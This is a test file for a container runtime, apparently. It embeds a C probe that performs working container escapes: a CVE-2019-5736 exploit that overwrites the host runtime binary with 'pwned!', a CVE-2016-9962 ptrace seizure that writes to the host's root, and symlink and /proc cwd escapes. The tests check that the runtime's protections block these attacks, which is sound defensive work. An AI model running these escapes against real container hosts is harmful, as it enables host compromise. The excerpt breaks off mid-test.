// Attacks on the runtime from inside the container, one block per class, as root and as an
// unprivileged user. Each test is written to fail when its protection is gone; the comment
// above each block says which protection that is and how that was checked (by removing it in
// a scratch copy of the runtime, running this file, seeing the test fail, and restoring it).
import { type SpawnOptions, execFileSync, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, closeSync, copyFileSync, existsSync, lchownSync, mkdirSync, openSync, readFileSync, readdirSync, realpathSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Spec } from '../../lib/spec/schema.js';
import { StateStore } from '../../lib/state/store.js';
import { busyboxRootfs, cleanupBase, makeBundle, ownedDir, testBase } from '../helpers/bundle.js';
import { type RunAs, eachMode, runAs } from '../helpers/env.js';
import { BINARY, LAUNCH_JS, SLOW, detachedVerb, exitOf, launchChild, launchShell, launchSync, launchWords, runBundle, spawnOptions, stateRoot, until, waitFor } from '../helpers/launch.js';

afterAll(cleanupBase);

const sh = (script: string) => ['/bin/sh', '-c', script];
const hasScript = spawnSync('script', ['--version'], { stdio: 'ignore' }).status === 0;

// A static helper the containers run (the busybox rootfs has no compiler and busybox cannot
// open a file write-only without creating or truncating it). Built once per file; the tests
// that need it skip without a C compiler.
const PROBE_C = String.raw`/* Runs inside a container; each mode prints one line per finding, errno names for failures. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static const char *ename(int e) {
  switch (e) {
  case EACCES: return "EACCES"; case EPERM: return "EPERM"; case ENOENT: return "ENOENT";
  case EROFS: return "EROFS"; case ETXTBSY: return "ETXTBSY"; case ESRCH: return "ESRCH";
  case ELOOP: return "ELOOP"; case ENOTDIR: return "ENOTDIR"; case EISDIR: return "EISDIR";
  case EINVAL: return "EINVAL"; case EBUSY: return "EBUSY"; case EEXIST: return "EEXIST";
  default: { static char b[16]; snprintf(b, sizeof b, "E%d", e); return b; }
  }
}

static int slurp(const char *path, char *buf, size_t n) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) return -1;
  ssize_t r = read(fd, buf, n - 1);
  close(fd);
  if (r < 0) return -1;
  buf[r] = 0;
  return (int)r;
}

/* launch names its child "launch:[1:init]" (PR_SET_NAME) until the exec. */
static int is_runtime(int pid) {
  char p[64], c[64];
  snprintf(p, sizeof p, "/proc/%d/comm", pid);
  return slurp(p, c, sizeof c) > 0 && strncmp(c, "launch:", 7) == 0;
}

static unsigned long long capeff(int pid) {
  char p[64], s[4096];
  snprintf(p, sizeof p, "/proc/%d/status", pid);
  if (slurp(p, s, sizeof s) < 0) return ~0ull;
  char *l = strstr(s, "CapEff:");
  return l ? strtoull(l + 7, NULL, 16) : ~0ull;
}

/* What the container gets of a runtime process through /proc: its exe (target, open for
 * reading, for writing), its cwd and its fds. */
static void attempt(int pid, char *out, size_t n) {
  char p[64], t[4096];
  size_t k = 0;
  snprintf(p, sizeof p, "/proc/%d/exe", pid);
  ssize_t r = readlink(p, t, sizeof t - 1);
  if (r >= 0) t[r] = 0;
  k += snprintf(out + k, n - k, "exe=%s", r >= 0 ? t : ename(errno));
  int fd = open(p, O_RDONLY | O_CLOEXEC);
  k += snprintf(out + k, n - k, " exe_read=%s", fd >= 0 ? "ok" : ename(errno));
  if (fd >= 0) close(fd);
  fd = open(p, O_WRONLY | O_CLOEXEC);
  k += snprintf(out + k, n - k, " exe_write=%s", fd >= 0 ? "ok" : ename(errno));
  if (fd >= 0) close(fd);
  snprintf(p, sizeof p, "/proc/%d/cwd", pid);
  r = readlink(p, t, sizeof t - 1);
  if (r >= 0) t[r] = 0;
  k += snprintf(out + k, n - k, " cwd=%s", r >= 0 ? t : ename(errno));
  /* The fd numbers may be listed (the directory is root's, as are we, rootful); what matters
   * is whether the fds themselves can be reached. */
  snprintf(p, sizeof p, "/proc/%d/fd", pid);
  DIR *d = opendir(p);
  const char *fds = d ? "none" : ename(errno);
  struct dirent *e;
  while (d && (e = readdir(d))) {
    if (e->d_name[0] == '.') continue;
    char f[300];
    snprintf(f, sizeof f, "%s/%s", p, e->d_name);
    if (readlink(f, t, sizeof t - 1) >= 0) { fds = "ok"; break; }
    fds = ename(errno);
  }
  snprintf(out + k, n - k, " fds=%s", fds);
  if (d) closedir(d);
}

static double now(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return ts.tv_sec + ts.tv_nsec / 1e9;
}

static char state_of(int pid) {
  char p[64], s[1024];
  snprintf(p, sizeof p, "/proc/%d/stat", pid);
  if (slurp(p, s, sizeof s) < 0) return 0;
  char *c = strrchr(s, ')');
  return c && c[1] ? c[2] : 0;
}

/* exe SECONDS [stay|step]: wait for a runtime process that has dropped to our own capabilities
 * (before that, the kernel's capability check alone keeps us out), try it, and report the try
 * if the process was still the runtime after it. "stay": live on after the report (a
 * container's pid 1, whose exit would kill the pid namespace). "step" (implies stay): an
 * exec's child keeps our capabilities for a few ms only, before its execve; stop it with
 * SIGSTOP as soon as it shows up (the container may signal it: same uid, CAP_KILL) and let it
 * run a few microseconds at a time until it has dropped them: then it waits for us. */
static int mode_exe(double secs, int stay, int step) {
  int self = getpid();
  unsigned long long mine = capeff(self);
  printf("ready\n");
  fflush(stdout);
  double end = now() + secs;
  int rc = 1;
  while (rc && now() < end) {
    DIR *d = opendir("/proc");
    if (!d) return 2;
    struct dirent *e;
    int found = 0;
    while ((e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid > 0 && pid != self && is_runtime(pid)) { found = pid; break; }
    }
    closedir(d);
    if (found && step) kill(found, SIGSTOP);
    while (rc && found && now() < end && is_runtime(found)) {
      if (step) {
        char st = state_of(found);
        if (st != 'T' && st != 't') continue; /* not stopped yet */
        if (capeff(found) != mine) {
          kill(found, SIGCONT);
          for (volatile int i = 0; i < 2000; i++) {}
          kill(found, SIGSTOP);
          continue;
        }
      } else if (capeff(found) != mine) {
        continue;
      }
      char out[8192];
      attempt(found, out, sizeof out);
      if (is_runtime(found)) {
        printf("runtime %s\n", out);
        rc = 0;
      }
      if (step) kill(found, SIGCONT);
    }
    /* Missed (it exec'd between two steps): never leave the container's program stopped. */
    if (found && step) kill(found, SIGCONT);
  }
  if (rc) printf("timeout\n");
  fflush(stdout);
  if (stay || step) for (;;) pause();
  return rc;
}

/* fds: the open fds (but the one reading /proc/self/fd) and what they are. */
static int mode_fds(void) {
  int dfd = open("/proc/self/fd", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  if (dfd < 0) { printf("open /proc/self/fd: %s\n", ename(errno)); return 2; }
  DIR *d = fdopendir(dfd);
  struct dirent *e;
  int fds[1024], n = 0;
  while ((e = readdir(d)) && n < 1024) {
    if (e->d_name[0] == '.') continue;
    int fd = atoi(e->d_name);
    if (fd != dfd) fds[n++] = fd;
  }
  for (int i = 0; i < n; i++)
    for (int j = i + 1; j < n; j++)
      if (fds[j] < fds[i]) { int t = fds[i]; fds[i] = fds[j]; fds[j] = t; }
  for (int i = 0; i < n; i++) {
    char p[64], t[4096];
    snprintf(p, sizeof p, "/proc/self/fd/%d", fds[i]);
    ssize_t r = readlink(p, t, sizeof t - 1);
    t[r > 0 ? r : 0] = 0;
    printf("%d %s\n", fds[i], t);
  }
  closedir(d);
  return 0;
}

/* grab PATH SECONDS: the CVE-2019-5736 exploit. Watch for a process of this container whose
 * exe is PATH (the host's runtime binary), keep an fd of it, and once nothing executes it any
 * more (ETXTBSY), reopen that fd for writing and write over the start of the file. */
static int mode_grab(const char *path, double secs) {
  printf("ready\n");
  fflush(stdout);
  double end = now() + secs;
  int fd = -1;
  while (fd < 0 && now() < end) {
    DIR *d = opendir("/proc");
    if (!d) return 2;
    struct dirent *e;
    while (fd < 0 && (e = readdir(d))) {
      int pid = atoi(e->d_name);
      if (pid <= 0 || pid == getpid()) continue;
      char p[64], t[4096];
      snprintf(p, sizeof p, "/proc/%d/exe", pid);
      ssize_t r = readlink(p, t, sizeof t - 1);
      if (r < 0) continue;
      t[r] = 0;
      if (strcmp(t, path)) continue;
      fd = open(p, O_RDONLY | O_CLOEXEC);
      printf("seen %s in pid %d: %s\n", t, pid, fd >= 0 ? "held" : ename(errno));
      fflush(stdout);
    }
    closedir(d);
  }
  if (fd < 0) { printf("timeout\n"); return 1; }
  char self[64];
  snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
  int err = 0;
  while (now() < end) {
    int w = open(self, O_WRONLY | O_CLOEXEC);
    if (w >= 0) {
      ssize_t n = write(w, "pwned!", 6);
      printf("wrote %zd bytes over the runtime binary\n", n);
      return 0;
    }
    err = errno;
    if (err != ETXTBSY) break;
    usleep(20000);
  }
  printf("could not write: %s\n", ename(err));
  return 1;
}

/* seize PATH SECONDS: ptrace (CVE-2016-9962) the next processes of this pid namespace, one
 * after the other (each launch exec's child gets the next pid), as a container's pid 1 with
 * CAP_SYS_PTRACE. A process that may not be traced (not dumpable) yet is stopped and let go a
 * few microseconds at a time, so that a moment it is dumpable lasts. Attached to the runtime
 * (its name is launch's), it makes the directory PATH through /proc/<pid>/root: the host's
 * root until the process joins the container's mount namespace. Anything else attached (the
 * container's program, after the exec) is let go. */
static int mode_seize(const char *path, double secs) {
  int next = getpid() + 1;
  printf("ready\n");
  fflush(stdout);
  double end = now() + secs;
  while (now() < end) {
    int attached = ptrace(PTRACE_SEIZE, next, 0, 0) == 0;
    if (!attached && errno == ESRCH) {
      if (kill(next + 1, 0) == 0) next++; /* it is gone, a later one is there */
      continue;
    }
    if (!attached) {
      kill(next, SIGSTOP);
      for (int i = 0; i < 50 && !attached; i++) attached = ptrace(PTRACE_SEIZE, next, 0, 0) == 0;
    }
    if (attached) {
      int st;
      ptrace(PTRACE_INTERRUPT, next, 0, 0);
      waitpid(next, &st, __WALL);
      if (is_runtime(next)) {
        char where[4096];
        snprintf(where, sizeof where, "/proc/%d/root%s", next, path);
        int r = mkdir(where, 0755);
        printf("seized the runtime in pid %d: mkdir %s\n", next, r == 0 ? "made" : ename(errno));
        fflush(stdout);
        kill(next, SIGKILL);
        waitpid(next, &st, __WALL); /* its tracer first, then launch may reap it */
      } else {
        ptrace(PTRACE_DETACH, next, 0, 0);
      }
      kill(next, SIGCONT);
      next++;
      continue;
    }
    kill(next, SIGCONT);
  }
  return 0;
}

int main(int argc, char **argv) {
  if (argc >= 4 && !strcmp(argv[1], "grab")) return mode_grab(argv[2], atof(argv[3]));
  if (argc >= 3 && !strcmp(argv[1], "exe")) return mode_exe(atof(argv[2]), argc > 3 && !strcmp(argv[3], "stay"), argc > 3 && !strcmp(argv[3], "step"));
  if (argc >= 2 && !strcmp(argv[1], "fds")) return mode_fds();
  if (argc >= 4 && !strcmp(argv[1], "seize")) return mode_seize(argv[2], atof(argv[3]));
  /* openw PATH...: open for writing only (no O_CREAT, no O_TRUNC: nothing is changed). */
  if (argc >= 2 && !strcmp(argv[1], "openw")) {
    for (int i = 2; i < argc; i++) {
      int fd = open(argv[i], O_WRONLY | O_CLOEXEC | O_NOCTTY);
      printf("%s %s\n", argv[i], fd >= 0 ? "writable" : ename(errno));
      if (fd >= 0) close(fd);
    }
    return 0;
  }
  /* mkdir PATH...: make (and at once remove) a directory. */
  if (argc >= 2 && !strcmp(argv[1], "mkdir")) {
    for (int i = 2; i < argc; i++) {
      int r = mkdir(argv[i], 0755);
      printf("%s %s\n", argv[i], r == 0 ? "made" : ename(errno));
      if (r == 0) rmdir(argv[i]);
    }
    return 0;
  }
  fprintf(stderr, "usage: probe exe SECONDS [stay|step] | grab PATH SECONDS | seize PATH SECONDS | fds | openw PATH... | mkdir PATH...\n");
  return 2;
}
`;

let probeDir: string | undefined;
/** The directory holding the probe (bound read-only at /probe), or why there is none. */
function buildProbe(): string | undefined {
  if (probeDir) return undefined;
  const dir = join(testBase(), 'probe');
  mkdirSync(dir, { recursive: true, mode: 0o755 });
  chmodSync(dir, 0o755);
  writeFileSync(join(dir, 'probe.c'), PROBE_C);
  const r = spawnSync('cc', ['-static', '-O2', '-o', join(dir, 'probe'), join(dir, 'probe.c')], { encoding: 'utf8' });
  if (r.error || r.status !== 0) return `needs a C compiler with static libc (cc -static): ${(r.stderr || String(r.error)).trim().split('\n')[0]}`;
  probeDir = dir;
  return undefined;
}
let noProbe: string | undefined;
beforeAll(() => {
  noProbe = buildProbe();
});

const withProbe = (s: Spec) => void s.mounts!.push({ destination: '/probe', type: 'bind', source: probeDir!, options: ['bind', 'ro'] });
const uniq = (what: string) => `${what}-${process.pid}-${Math.random().toString(36).slice(2, 8)}`;

// 1. CVE-2019-5736. Until its execve, launch's child runs launch's own binary: Node
// (bin/launch) or the single executable (dist/launch with LAUNCH_BINARY). A container process
// that could open /proc/<child>/exe would hold a file descriptor of that binary, and root in
// the container (the file's owner) could write it once no launch runs any more; through
// /proc/<child>/cwd and /proc/<child>/fd it would reach what the child still holds of the
// host. The child is in the container's pid namespace from the clone (run, create) or the
// fork (exec) on, with the container's capabilities once its CAPS step ran: from there on,
// only its not being dumpable keeps the container out. The probe, in the container, waits for
// the child to drop its capabilities and tries: run, a startContainer hook (the init waits
// for it); create, a process exec'd into the created container (the init waits for `start`);
// exec, the pid 1 of the container, while the exec's child goes by.
// Checked: without the PR_SET_DUMPABLE calls (addon/parent/spawn.cc around the clone, and
// the child's at the id-map sync), all six failed, with both binaries: the probe got
// `exe=<the binary> exe_read=ok exe_write=ETXTBSY (rootless: EACCES) cwd=/ fds=ok`; rootless
// create: the exec into the created container then went in and did the same.
eachMode('attacks: the runtime binary through /proc/<pid>/exe (CVE-2019-5736)', ['busybox', 'dist', 'addon'], (mode, skip) => {
  const who = () => runAs(mode)!;
  const binary = BINARY ?? process.execPath;
  const denied = /^runtime exe=EACCES exe_read=EACCES exe_write=EACCES cwd=EACCES fds=EACCES$/m;

  it.skipIf(skip)(`run: the init, waiting for a startContainer hook, is out of reach (${binary})`, (ctx) => {
    if (noProbe) ctx.skip(noProbe);
    const bundle = makeBundle(who(), {
      args: ['/bin/true'],
      edit: (s) => {
        withProbe(s);
        // A program of the container's own (its path is resolved in the container's root),
        // run by the init with the container's capabilities; its stdout is launch's stderr.
        s.hooks = { startContainer: [{ path: '/probe/probe', args: ['probe', 'exe', '10'] }] };
      },
    });
    const r = launchSync(who(), ['run', '--bundle', bundle, uniq('victim')]);
    expect(r.stderr).not.toContain(binary);
    expect(r.stderr).toMatch(denied);
    expect(r.status).toBe(0);
  });

  it.skipIf(skip)(`create: the init, waiting for start, is out of reach (${binary})`, (ctx) => {
    if (noProbe) ctx.skip(noProbe);
    const id = uniq('victim');
    try {
      const bundle = makeBundle(who(), { args: ['/bin/true'], edit: withProbe });
      expect(detachedVerb(who(), ['create', '--bundle', bundle, id])).toEqual({ status: 0, log: '' });
      const r = launchSync(who(), ['exec', id, '/probe/probe', 'exe', '10']);
      expect(r.stdout + r.stderr).not.toContain(binary);
      if (mode === 'root') {
        expect(r.stdout).toMatch(denied);
      } else {
        // An unprivileged launch may not even open the namespaces of the waiting init, which
        // is not dumpable: nothing gets in to try (runc's init is not dumpable either).
        expect(r.stderr).toMatch(/is created but not started: rootless, it takes an exec once `launch start` has run its program `\/proc\/\d+\/ns\/\w+`: Permission denied \(EACCES\)$/m);
      }
    } finally {
      launchSync(who(), ['delete', '--force', id]);
    }
  });

  it.skipIf(skip)(`exec: the exec's child, in the container, is out of reach (${binary})`, async (ctx) => {
    if (noProbe) ctx.skip(noProbe);
    const id = uniq('attacker');
    const bundle = makeBundle(who(), { args: ['/probe/probe', 'exe', '20', 'step'], edit: withProbe });
    const attacker = launchChild(who(), ['run', '--bundle', bundle, id]);
    try {
      let out = '';
      attacker.stdout!.on('data', (d) => (out += d));
      await waitFor(attacker.stdout!, 'ready');
      // The exec's child has the container's capabilities for microseconds only before its
      // execve; the probe stops it and lets it go a step at a time. 900 fds to mark for the
      // exec and a PATH of 6000 directories that do not exist (each a failed execve before the
      // one that works; 100 KB: one argument may not exceed 128 KiB) keep it there some ms, so
      // that a step rarely overshoots; when one does, the next exec is tried.
      const path = [...Array.from({ length: 6000 }, (_, i) => `/nonexistent/${i}`), '/bin'].join(':');
      for (let i = 0; i < 10 && !/^runtime /m.test(out); i++) {
        // launch passes on only fds its caller gave (issue 16 item 7): give 900 (below the
        // container's 1024 open files).
        const fd = openSync('/dev/null', 'r');
        const r = launchSync(who(), ['exec', '--preserve-fds', '900', '--env', `PATH=${path}`, id, 'true'], { stdio: ['pipe', 'pipe', 'pipe', ...Array<number>(900).fill(fd)] });
        closeSync(fd);
        expect([r.stderr, r.status]).toEqual(['', 0]);
        await new Promise((r) => setTimeout(r, 300 * SLOW));
      }
      expect(out).not.toContain(binary);
      expect(out).toMatch(denied);
    } finally {
      launchSync(who(), ['kill', id, 'KILL']);
      await exitOf(attacker);
      launchSync(who(), ['delete', '--force', id]);
    }
  });
});

// 1a. CVE-2016-9962 (runc exec): a container process that may ptrace launch exec's child
// (CAP_SYS_PTRACE: as root without a user namespace, the host's) reaches what the child still
// has of the host. The child forked into the container's pid namespace right after joining the
// user and pid namespaces, and then waited for its cgroup while its root and cwd were still
// the host's: /proc/<pid>/root led the container to the host's /. The probe, as the container's
// pid 1, stops each exec's child as it shows up and makes a directory through its root.
// Protection: the fork into the pid namespace comes after the mount namespace and the chroot
// (lib/plan/build.ts buildExecPlan), as runc's nsexec joins everything before its stage-2 fork.
// Checked: with FORK_INIT back right after the pid join, as root the first exec was seized:
// `seized the runtime in pid 2: mkdir made`, the directory made on the host, as root.
// Rootless with process.oomScoreAdj, launch wrote the child's oom_score_adj itself at the
// cgroup wait and made the child dumpable for that, in the container's user and pid
// namespaces: the probe attached then and kept it (a trace outlives the return to not
// dumpable), with launch's memory and fds. Protection: the child writes its own
// oom_score_adj before it joins anything (WRITE_FILE, as runc's nsexec), and is never
// dumpable after. Checked: with the parent's write back, rootless, every exec was seized.
eachMode('attacks: an exec\'s child ptraced in the container\'s namespaces (CVE-2016-9962)', ['busybox', 'dist', 'addon'], (mode, skip) => {
  const who = () => runAs(mode)!;

  it.skipIf(skip)('with CAP_SYS_PTRACE in the container, the exec\'s child never shows the host\'s root', async (ctx) => {
    if (noProbe) ctx.skip(noProbe);
    const id = uniq('tracer');
    const target = join(ownedDir(who(), 'ptrace-escape'), 'made-from-the-container');
    const bundle = makeBundle(who(), {
      args: ['/probe/probe', 'seize', target, '60'],
      edit: (s) => {
        withProbe(s);
        s.process!.oomScoreAdj = 100; // up from 0, as an ordinary user may; see above
        const caps = s.process!.capabilities!;
        for (const set of ['bounding', 'effective', 'permitted'] as const) caps[set] = [...(caps[set] ?? []), 'CAP_SYS_PTRACE'];
      },
    });
    const attacker = launchChild(who(), ['run', '--bundle', bundle, id]);
    try {
      let out = '';
      attacker.stdout!.on('data', (d) => (out += d));
      await waitFor(attacker.stdout!, 'ready');
      for (let i = 0; i < 5 && !/^seized /m.test(out); i++) {
        launchSync(who(), ['exec', id, '/bin/true']);
        await new Promise((r) => setTimeout(r, 100 * SLOW));
      }
      // As root (no user namespace) CAP_SYS_PTRACE is the host's: the child may be seized, as
      // runc's init may, but only once it is in the container's mount namespace and root.
      expect(out).not.toMatch(/^seized .*: mkdir made$/m);
      // Rootless, CAP_SYS_PTRACE is the container's user namespace's: a child that is never
      // dumpable there is never seized.
      if (mode === 'rootless') expect(out).not.toMatch(/^seized /m);
      expect(existsSync(target)).toBe(false);
    } finally {
      launchSync(who(), ['kill', id, 'KILL']);
      await exitOf(attacker);
      launchSync(who(), ['delete', '--force', id]);
    }
  });
});

/** A root filesystem of the test's own (a copy of the busybox one), to plant things in. */
function customRootfs(who: RunAs, name: string): string {
  const dir = ownedDir(who, name);
  execFileSync('cp', ['-a', `${busyboxRootfs(who)}/.`, dir]);
  return dir;
}

/** Make `path` (a file, directory or symlink, never followed) belong to `who`. */
const own = (who: RunAs, ...paths: string[]) => paths.forEach((p) => lchownSync(p, who.uid, who.gid));

function plantSymlink(who: RunAs, target: string, path: string): void {
  mkdirSync(dirname(path), { recursive: true });
  symlinkSync(target, path);
  own(who, path);
}

/** A relative symlink target that climbs out of any root and comes down to `hostPath`. */
const climb = (hostPath: string) => `${'../'.repeat(12)}${hostPath.replace(/^\/+/, '')}`;

const sha = (file: string) => createHash('sha256').update(readFileSync(file)).digest('hex');

// 1b. CVE-2019-5736 as it was exploited: the container's program is `#!/proc/self/exe`, so
// the kernel, exec'ing it for launch's child, runs the binary /proc/self/exe names for that
// child: launch's own (with the loader and libraries the container's image brings along).
// A process of the container then holds it open and writes over it once no launch runs it.
// The binary attacked is a copy, owned by the user running launch (rootless: a user's own
// install; root: root's), run as `launch exec`; the probe is the container's pid 1.
// Protection: the container's program is exec'd by a small trampoline run from a sealed memfd
// (addon/exec/trampoline.c, EXEC_IMAGE), so /proc/self/exe names that memfd, not launch.
// Checked: before the trampoline existed (the same as leaving EXEC_IMAGE out of the plan),
// this test failed as root and as rootless, with bin/launch (a copy of Node) and with
// dist/launch: `seen <copy> in pid 2: held`, then `wrote 6 bytes over the runtime binary`,
// and the copy's hash changed. The child not being dumpable did not help: the program the
// kernel runs is a new one, dumpable again.
eachMode('attacks: a #!/proc/self/exe program overwriting the runtime (CVE-2019-5736)', ['busybox', 'dist', 'addon'], (mode, skip) => {
  const who = () => runAs(mode)!;

  it.skipIf(skip)(`exec: the runtime binary is neither run nor written by the container (${BINARY ?? process.execPath})`, async (ctx) => {
    if (noProbe) ctx.skip(noProbe);
    const dir = ownedDir(who(), 'runtime-copy');
    const copy = join(dir, BINARY ? 'launch' : 'node');
    copyFileSync(BINARY ?? process.execPath, copy);
    chmodSync(copy, 0o755);
    own(who(), copy);
    const before = sha(copy);
    // The loader and libraries the binary needs, as any glibc-based image has them.
    const root = customRootfs(who(), 'rootfs-libs');
    const libs = execFileSync('ldd', [copy], { encoding: 'utf8' }).match(/\/\S+/g) ?? [];
    for (const lib of new Set(libs)) {
      mkdirSync(join(root, dirname(lib)), { recursive: true });
      copyFileSync(lib, join(root, lib));
    }
    // Node runs it as a script (a second of it); the single executable takes it for a verb.
    writeFileSync(join(root, 'bin/evil'), '#!/proc/self/exe\nsetTimeout(() => {}, 1000);\n', { mode: 0o755 });
    const id = uniq('grab');
    const bundle = makeBundle(who(), {
      args: ['/probe/probe', 'grab', copy, '30'],
      edit: (s) => {
        withProbe(s);
        s.root = { path: root, readonly: true };
      },
    });
    const attacker = launchChild(who(), ['run', '--bundle', bundle, id]);
    let out = '';
    attacker.stdout!.on('data', (d) => (out += d));
    const exited = exitOf(attacker);
    try {
      await waitFor(attacker.stdout!, 'ready');
      const words = BINARY ? [copy] : [copy, LAUNCH_JS];
      spawnSync(words[0]!, [...words.slice(1), '--root', stateRoot(who()), 'exec', id, '/bin/evil'], { ...spawnOptions(who()), stdio: 'ignore', timeout: 20_000 * SLOW });
      // Nothing runs the copy now: a probe holding it writes within its next 20 ms retry.
      await new Promise((r) => setTimeout(r, 1500 * SLOW));
    } finally {
      launchSync(who(), ['kill', id, 'KILL']);
      await exited;
      launchSync(who(), ['delete', '--force', id]);
    }
    expect(out).not.toMatch(/^seen /m);
    expect(out).not.toMatch(/^wrote /m);
    expect(sha(copy)).toBe(before);
  });
});

// 2. No fd of the runtime reaches the container, and process.cwd cannot lead out of the root
// (CVE-2024-21626: runc leaked a host directory fd, and a cwd of /proc/self/fd/N started the
// process in the host's tree). Protections: the child marks every fd but 0-2 (and the
// preserved ones) close-on-exec (close_range(CLOSE_RANGE_CLOEXEC) at its start and at EXEC);
// CHDIR resolves the cwd with openat2(RESOLVE_IN_ROOT | RESOLVE_NO_MAGICLINKS), after
// pivot_root. Checked: without both close_range calls in addon/child/child.c, the three fd
// tests failed (fd 40, a host directory launch inherited, reached the container); with
// fs_chdir() a plain chdir(2), the /proc test failed (`create` with cwd /proc/self/fd/20, the
// state directory the waiting init holds, succeeded: its program would start in the host's
// state directory); the `..` and symlink test still passed then, as pivot_root confines
// those: with pivot_root left out (fs_pivot() returning at once), it failed (`pwd -P` printed
// the rootfs' host path).
eachMode('attacks: the runtime\'s fds and the process cwd (CVE-2024-21626)', ['busybox', 'dist', 'addon'], (mode, skip) => {
  const who = () => runAs(mode)!;
  /** fds the probe reports: number -> what it is. */
  const fdsOf = (out: string) => Object.fromEntries(out.trim().split('\n').filter(Boolean).map((l) => [Number(l.split(' ')[0]), l.slice(l.indexOf(' ') + 1)]));
  /** A file and a directory launch's caller has open (inheritable) as fds 3 and 40, for the
   * call. (Node marks the low ones it inherits close-on-exec itself, not 40.) */
  function withExtraFds<T>(fn: (stdio: SpawnOptions['stdio'], file: string) => T): T {
    const dir = ownedDir(who(), 'fds');
    const file = join(dir, 'three');
    writeFileSync(file, '');
    const three = openSync(file, 'r');
    const forty = openSync(dir, 'r');
    try {
      return fn(['pipe', 'pipe', 'pipe', three, ...Array<'ignore'>(36).fill('ignore'), forty], file);
    } finally {
      closeSync(three);
      closeSync(forty);
    }
  }

  it.skipIf(skip)('run: the container has 0, 1 and 2 only, whatever launch inherited; --preserve-fds 1 adds 3', (ctx) => {
    if (noProbe) ctx.skip(noProbe);
    const bundle = makeBundle(who(), { args: ['/probe/probe', 'fds'], edit: withProbe });
    withExtraFds((stdio, file) => {
      const r = launchSync(who(), ['run', '--bundle', bundle, uniq('fds')], { stdio });
      expect(r.stderr).toBe('');
      expect(Object.keys(fdsOf(r.stdout)).map(Number)).toEqual([0, 1, 2]);
      const p = launchSync(who(), ['run', '--preserve-fds', '1', '--bundle', bundle, uniq('fds')], { stdio });
      const fds = fdsOf(p.stdout);
      expect(Object.keys(fds).map(Number)).toEqual([0, 1, 2, 3]);
      expect(fds[3]).toBe(file);
    });
  });

  it.skipIf(skip)('create and start: the program has 0, 1 and 2 only', async (ctx) => {
    if (noProbe) ctx.skip(noProbe);
    const bundle = makeBundle(who(), { args: ['/probe/probe', 'fds'], edit: withProbe });
    const id = uniq('fds');
    const log = join(ownedDir(who(), 'log'), 'log');
    const out = openSync(log, 'w');
    try {
      withExtraFds((stdio) => {
        const r = launchSync(who(), ['create', '--bundle', bundle, id], { stdio: ['ignore', out, out, ...(stdio as unknown[]).slice(3)] as SpawnOptions['stdio'] });
        expect(r.status).toBe(0);
      });
      expect(withExtraFds((stdio) => launchSync(who(), ['start', id], { stdio })).status).toBe(0);
      await until('the program ran', () => /^2 /m.test(readFileSync(log, 'utf8')));
      expect(Object.keys(fdsOf(readFileSync(log, 'utf8'))).map(Number)).toEqual([0, 1, 2]);
    } finally {
      closeSync(out);
      launchSync(who(), ['delete', '--force', id]);
    }
  });

  it.skipIf(skip)('exec: the process has 0, 1 and 2 only', async (ctx) => {
    if (noProbe) ctx.skip(noProbe);
    const id = uniq('fds');
    const bundle = makeBundle(who(), { args: ['/bin/sleep', '30'], edit: withProbe });
    expect(detachedVerb(who(), ['run', '-d', '--bundle', bundle, id]).status).toBe(0);
    try {
      const r = withExtraFds((stdio) => launchSync(who(), ['exec', id, '/probe/probe', 'fds'], { stdio }));
      expect(r.stderr).toBe('');
      expect(Object.keys(fdsOf(r.stdout)).map(Number)).toEqual([0, 1, 2]);
    } finally {
      launchSync(who(), ['delete', '--force', id]);
    }
  });

  it.skipIf(skip)('a cwd through /proc (/proc/self/fd/N, /proc/self/cwd, /proc/1/root) is refused: create, run, exec', () => {
    // create: the init holds the state directory open (its exec FIFO's) until it waits.
    for (let n = 3; n < 32; n++) {
      const bundle = makeBundle(who(), { args: sh('pwd -P; ls'), edit: (s) => void (s.process!.cwd = `/proc/self/fd/${n}`) });
      const id = uniq('cwd');
      // Its output to a file: a container that did start would hold a pipe open.
      const r = detachedVerb(who(), ['create', '--bundle', bundle, id]);
      if (r.status === 0) launchSync(who(), ['delete', '--force', id]);
      expect.soft(r.log.trimEnd(), `cwd /proc/self/fd/${n}`).toMatch(/^launch: create \S+: process\.cwd: change directory to `\/proc\/self\/fd\/\d+`: .*\((ELOOP|ENOENT|ENOTDIR)\)$/);
      expect.soft(r.status).toBe(125);
    }
    for (const cwd of ['/proc/self/cwd', '/proc/self/root', '/proc/1/root', '/proc/self/fd/0']) {
      const bundle = makeBundle(who(), { args: sh('pwd -P'), edit: (s) => void (s.process!.cwd = cwd) });
      const r = runBundle(who(), bundle);
      expect.soft(r.stderr.trimEnd(), `cwd ${cwd}`).toMatch(/process\.cwd: change directory to .*\((ELOOP|ENOTDIR)\)$/);
      expect.soft(r.status).toBe(125);
    }
    const id = uniq('cwd');
    expect(detachedVerb(who(), ['run', '-d', '--bundle', makeBundle(who(), { args: ['/bin/sleep', '30'] }), id]).status).toBe(0);
    try {
      for (let n = 3; n < 16; n++) {
        const r = launchSync(who(), ['exec', '--cwd', `/proc/self/fd/${n}`, id, '/bin/pwd', '-P']);
        expect.soft(r.stderr.trimEnd(), `exec --cwd /proc/self/fd/${n}`).toMatch(/process\.cwd: change directory to .*\((ELOOP|ENOENT|ENOTDIR)\)$/);
        expect.soft(r.status).toBe(125);
      }
    } finally {
      launchSync(who(), ['delete', '--force', id]);
    }
  });

  it.skipIf(skip)('`..` and symlinks in process.cwd stay inside the root', () => {
    const host = ownedDir(who(), 'hostside');
    writeFileSync(join(host, 'host-marker'), 'host\n');
    const root = customRootfs(who(), 'rootfs-cwd');
    plantSymlink(who(), climb('/'), join(root, 'up'));
    plantSymlink(who(), host, join(root, 'abs'));
    plantSymlink(who(), climb(host), join(root, 'rel'));
    const run = (cwd: string) =>
      runBundle(who(), makeBundle(who(), { args: sh('pwd -P; ls'), edit: (s) => {
        s.process!.cwd = cwd;
